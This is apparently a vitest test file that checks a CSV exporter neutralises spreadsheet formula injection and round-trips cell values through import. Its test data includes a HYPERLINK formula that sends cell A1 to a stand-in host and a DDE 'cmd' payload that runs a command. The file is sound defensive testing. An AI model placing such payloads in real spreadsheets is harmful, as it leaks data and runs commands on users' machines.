/** What a spreadsheet would run is text in an export, and the same again after an import. */
import { describe, expect, test } from 'vitest'
import { readSheet } from '../../organiser/sheets/in/sheet.ts'
import { csvText } from '../../organiser/sheets/out/csv.ts'

const FORMULAS = [
  '=1+1',
  '=HYPERLINK("https://malo.invalid/?x="&A1,"Ver")',
  "=cmd|' /C calc'!A0",
  '+52 55 1234',
  '-2+3',
  '@SUM(A1:A9)',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  "'=1+1",
  "''=1+1",
  "'+",
  '=',
  '-',
]
const HARMLESS = ["O'Higgins", "'", "'Los' Cuates", 'a=b', '1-2', 'x@y', '#10', '(+)', "d'Oro"]

const FORM = { file: 'equipos.csv', columns: ['equipo', 'grupo'], required: [['equipo']] } as const

const written = (cell: string, columns = FORM.columns) =>
  csvText(columns, [{ equipo: cell, grupo: 'A' }])

const readBack = (text: string) => {
  const { rows, problems } = readSheet(Buffer.from(text), FORM)
  expect(problems).toEqual([])
  return rows.map(({ equipo }) => equipo.text)
}

/** The first sign of a cell as a program sees it, quotes taken away. */
const firstSign = (text: string) => text.split('\n')[1]!.replace(/^"/, '')[0]

describe.each(FORMULAS)('%s', (cell) => {
  test('is written as text', () => expect(firstSign(written(cell))).toBe("'"))
  // A dash alone is how people write that there is nothing.
  const back = cell === '-' ? '' : cell
  test('is read back as it was', () => expect(readBack(written(cell))).toEqual([back]))
})

test.each(['\t=1+1', '\r=1+1'])('%j is written as text too', (cell) =>
  expect(firstSign(written(cell))).toBe("'"),
)

test.each(HARMLESS)('%s is written as it is', (cell) => {
  expect(firstSign(written(cell))).toBe(cell[0])
  expect(readBack(written(cell))).toEqual([cell])
})
